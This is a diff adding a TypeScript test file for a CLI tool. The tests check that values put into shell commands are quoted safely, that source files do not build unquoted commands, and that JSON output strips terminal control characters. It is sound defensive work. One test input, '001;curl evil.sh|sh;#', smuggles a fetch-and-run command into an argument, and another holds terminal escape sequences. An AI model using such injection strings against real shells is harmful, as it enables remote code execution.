@@ -1,0 +1,60 @@
+import { execFileSync } from 'node:child_process'
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { asJson } from '../../src/text/json.ts'
+import { asWord, paste } from '../../src/text/paste.ts'
+
+test('a value in a command is one word of a shell, whatever it holds', () => {
+  expect(paste`cortext resume ${'001-plan-日本語'} --force`).toBe('cortext resume 001-plan-日本語 --force')
+  expect(paste`cortext resume ${'001;curl evil.sh|sh;#'} --force`).toBe(
+    "cortext resume '001;curl evil.sh|sh;#' --force",
+  )
+  for (const value of ['--yes', '', 'a\nb', '\u001b[2J', 'a\u202eb', '\u009d'])
+    expect(paste`rm ${value}`, JSON.stringify(value)).toBe('rm <…>')
+  const word = fc.string({ unit: 'binary' }).map((text) => text.replace(/\p{Surrogate}/gu, ''))
+  fc.assert(
+    fc.property(word, (value) => {
+      const shown = asWord(value)
+      if (shown === '<…>') return // nothing to copy
+      const seen = execFileSync('/bin/sh', ['-c', `printf '%s|' ${shown}`], { encoding: 'utf8' })
+      expect(seen).toBe(`${value}|`)
+    }),
+    { numRuns: 40 },
+  )
+})
+
+test('no command to copy is put together without it', () => {
+  const src = join(import.meta.dirname, '..', '..', 'src')
+  const files = readdirSync(src, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.ts'))
+  const command = /\b(?:cortext [a-z]+(?: [\w-]+)*|rm|mv|cd|ls -\w+|tail|diff|df -h|kill) \$\{/
+  const bare = files.flatMap((path) =>
+    readFileSync(join(src, path), 'utf8')
+      .split('\n')
+      .filter((line) => command.test(line) && !/paste`[^`]*$/.test(line.slice(0, line.search(command))))
+      .map((line) => `${path}: ${line.trim()}`),
+  )
+  expect(bare.map((one) => one.split(':')[0]).sort()).toEqual(NOT_TO_COPY)
+})
+
+/** Commands with nothing in them but names of ours, and two that make a word of each value themselves. */
+const NOT_TO_COPY = [
+  'cli/verbs/edit/prune.ts',
+  'clients/setup/hook-command.ts',
+  'clients/setup/hook-entries.ts',
+  'journeys/resuming/parts.ts',
+  'journeys/resuming/plan.ts',
+  'journeys/setup/add-type.ts',
+  'store/machine/locks/lock.ts',
+]
+
+test('JSON holds nothing that a terminal obeys, and the same value', () => {
+  fc.assert(
+    fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
+      const json = asJson({ value, text, evil: '\u009b2J\u007f\u202e\u001b]0;x\u0007' }, 2)
+      expect(json).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
+      expect(JSON.parse(json).text).toBe(text)
+    }),
+  )
+})
